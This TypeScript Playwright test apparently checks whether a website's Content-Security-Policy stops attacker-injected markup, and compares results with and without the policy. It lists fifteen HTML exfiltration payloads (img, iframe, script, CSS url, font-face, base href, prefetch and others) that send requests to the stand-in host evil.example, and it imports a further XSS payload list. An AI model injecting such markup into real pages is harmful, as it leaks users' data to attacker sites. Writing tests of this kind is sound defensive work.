import { chromium, type Browser } from '@playwright/test'
import { listen } from '../forum/inspect-page.ts'
import { payloads } from '../forum/payloads.ts'
import { createTally, type Group } from './group.ts'

/** Markup that leaks data to another site or reuses this site's own scripts; it contains no script. */
const exfiltrations = (evil: string): string[] => [
  `<img src="${evil}/leak">`,
  `<link rel=stylesheet href="${evil}/leak">`,
  `<iframe src="${evil}/leak"></iframe>`,
  `<object data="${evil}/leak"></object>`,
  `<embed src="${evil}/leak">`,
  `<script src="${evil}/leak"></script>`,
  `<video src="${evil}/leak" autoplay></video>`,
  `<style>body{background:url(${evil}/leak)}</style>`,
  `<b style="background:url(${evil}/leak)">x</b>`,
  `<base href="${evil}/"><img src="leak">`,
  `<svg><image href="${evil}/leak"/></svg>`,
  `<style>@font-face{font-family:x;src:url(${evil}/leak)}b{font-family:x}</style><b>x</b>`,
  `<link rel=prefetch href="${evil}/leak">`,
  `<link rel=modulepreload href="${evil}/leak">`,
  `<link rel=manifest href="${evil}/leak">`,
]

/** A page of the site with the text of an attacker in it as markup: the policy is all that is left. */
export const csp: Group = {
  name: 'csp',
  floor: { full: 150, short: 40 },
  run: async (site) => {
    const tally = createTally()
    const browser = await chromium.launch({
      executablePath: process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium',
      args: ['--no-sandbox'],
    })
    try {
      const chosen = payloads.filter((_, index) => !site.isShort || index % 5 === 0).map(({ text }) => text)
      const page = { url: site.nginx.url, path: '/brands/barlow-and-thrane' }
      const texts = [...chosen, ...exfiltrations('https://evil.example')]
      const held = await show(browser, page, texts, { withPolicy: true })
      for (const text of texts) tally.note(held.ran.get(text) ?? false)
      tally.note(held.sent > 0 && `another site was asked ${held.sent} times`)
      // Without the policy the same texts do run: otherwise it would have been put to no test.
      const bare = await show(browser, page, texts, { withPolicy: false })
      const fewest = Math.floor(chosen.length / 3)
      if (bare.ran.size < fewest || bare.sent < 5)
        throw new Error(`Without a policy only ${bare.ran.size} of ${texts.length} ran, and ${bare.sent} were sent`)
      return tally.end(
        `raw markup in a page with the site's own headers; without its policy ${bare.ran.size} run and ${bare.sent} are sent`,
      )
    } finally {
      await browser.close()
    }
  },
}

type Shown = { ran: Map<string, string>; sent: number }

/** Opens the site's page once for each text, with the text written into it as it comes. */
async function show(
  browser: Browser,
  { url, path }: { url: string; path: string },
  texts: string[],
  { withPolicy }: { withPolicy: boolean },
): Promise<Shown> {
  const ran = new Map<string, string>()
  const context = await browser.newContext({ serviceWorkers: 'block' })
  let current = ''
  await listen(context, (what) => void ran.set(current, `${current} ran: ${what}`))
  const answer = await fetch(url + path)
  const html = (await answer.text()).replace(/<script type="module"[^>]*><\/script>/g, '')
  const headers = Object.fromEntries(
    [...answer.headers].filter(([name]) => !['content-encoding', 'content-length', 'transfer-encoding'].includes(name)),
  )
  if (!withPolicy) delete headers['content-security-policy']
  let sent = 0
  // A request stopped by the policy does not get this far.
  await context.route('https://evil.example/**', (route) => {
    sent += 1
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'xss("evil")' })
  })
  const page = await context.newPage()
  await page.route(`${url}/raw-*`, (route) =>
    route.fulfill({ status: 200, headers, body: html.replace('<body>', () => `<body>${current}`) }),
  )
  if (!html.includes('<body>')) throw new Error('The page has no body to write into')
  for (const [index, text] of texts.entries()) {
    current = text
    await page.goto(`${url}/raw-${index}`, { waitUntil: 'domcontentloaded', timeout: 10_000 }).catch(() => null)
    await page.waitForTimeout(100)
  }
  await context.close()
  return { ran, sent }
}
